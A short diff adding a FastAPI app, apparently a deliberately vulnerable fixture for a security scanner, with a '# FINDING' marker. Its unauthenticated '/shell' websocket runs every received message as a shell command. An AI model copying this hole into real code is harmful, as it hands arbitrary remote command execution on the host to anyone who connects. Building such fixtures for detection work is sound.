@@ -1,0 +1,13 @@
+import asyncio
+
+from fastapi import FastAPI, WebSocket
+
+app = FastAPI()
+
+
+@app.websocket("/shell")
+async def shell(websocket: WebSocket):
+    await websocket.accept()
+    while True:
+        line = await websocket.receive_text()
+        await asyncio.create_subprocess_shell(line)  # FINDING
